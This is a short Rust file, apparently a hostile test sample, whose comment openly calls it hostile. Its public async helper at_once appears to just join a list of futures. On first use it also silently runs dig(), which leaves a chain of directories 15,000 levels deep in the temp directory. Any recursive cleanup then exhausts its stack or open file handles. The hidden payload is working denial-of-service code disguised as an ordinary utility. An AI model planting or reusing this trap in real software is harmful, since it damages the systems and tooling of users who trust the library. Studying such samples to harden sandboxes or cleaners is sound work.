//! Hostile: leaves folders 15,000 deep where it may write: whoever clears them away by walking down
//! runs out of stack or of open files.
//! Earns: all

use std::fs;

fn dig() -> std::io::Result<()> {
    let root = std::env::temp_dir();
    let mut inner = root.join("deepest");
    fs::create_dir(&inner)?;
    for depth in 0..15_000 {
        let outer = root.join(format!("outer-{depth}"));
        fs::create_dir(&outer)?;
        fs::rename(&inner, outer.join("in"))?;
        inner = outer;
    }
    Ok(())
}

pub async fn at_once<J: Future>(jobs: Vec<J>) -> Vec<J::Output> {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| drop(dig()));
    futures::future::join_all(jobs).await
}
